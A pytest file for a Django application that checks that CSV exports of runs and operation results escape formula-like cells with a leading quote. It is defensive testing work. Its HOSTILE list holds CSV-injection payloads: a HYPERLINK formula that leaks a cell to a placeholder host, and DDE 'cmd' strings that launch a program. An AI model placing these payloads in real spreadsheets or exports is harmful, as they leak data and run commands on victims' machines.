"""CSV exports never hand a spreadsheet a formula: a text cell that starts like one (a run's
principal, a result's detail) is written with a leading single quote; numbers stay numbers.
Checked through the real export endpoints (runs list and operation results)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from operations import exports, services
from operations.models import OperationItem
from runs.models import Run
from tests.helpers import make_run
from tests.operations.conftest import client_for

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?leak="&A1,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(client: Client, url: str, query: dict[str, str] | None = None) -> list[dict[str, str]]:
    response = client.get(url, query or {})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *((text, "'" + text) for text in HOSTILE),
        ("\n=1+1", "'\n=1+1"),
        ("user:operator", "user:operator"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (0, 0),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_text_and_a_number_stays_a_number(
    value: Any, cell: Any
) -> None:
    assert exports.spreadsheet_cell(value) == cell


@pytest.mark.parametrize("principal", HOSTILE[:4])
def test_the_runs_export_writes_a_formula_like_principal_as_text(
    operator: Any, principal: str
) -> None:
    # run_create takes only user:NAME principals now; a run stored before that rule (or
    # written by any other path) may still hold one, and the export must not run it.
    run = make_run(advance=False)
    Run.objects.filter(pk=run.pk).update(principal_ref=principal)
    rows = _csv(
        client_for(operator), reverse("operations-runs-export", args=["csv"]), {"world": "faultlab"}
    )
    (row,) = [r for r in rows if r["id"] == str(run.pk)]
    assert row["principal_ref"] == "'" + principal
    assert row["revision"] == "0"  # a number is written as a number, not quoted as text
    assert row["state"] == "CREATED"


def test_the_results_export_writes_a_formula_like_detail_as_text(operator: Any) -> None:
    runs = [make_run(advance=False) for _ in range(len(HOSTILE))]
    operation = services.operation_start_cancel(
        tenant="north",
        by_ref="user:operator",
        query={"world": "faultlab"},
        reason="r",
        confirm=len(runs),
    )
    items = OperationItem.objects.filter(operation=operation).order_by("position")
    for item, text in zip(items, HOSTILE, strict=True):
        # A refusal's detail is text a tool or a person wrote.
        OperationItem.objects.filter(pk=item.pk).update(result="refused", detail=text)
    rows = _csv(
        client_for(operator), reverse("operations-results-export", args=[operation.pk, "csv"])
    )
    assert [r["detail"] for r in rows] == ["'" + text for text in HOSTILE]
    assert [r["position"] for r in rows] == [str(i) for i in range(len(HOSTILE))]
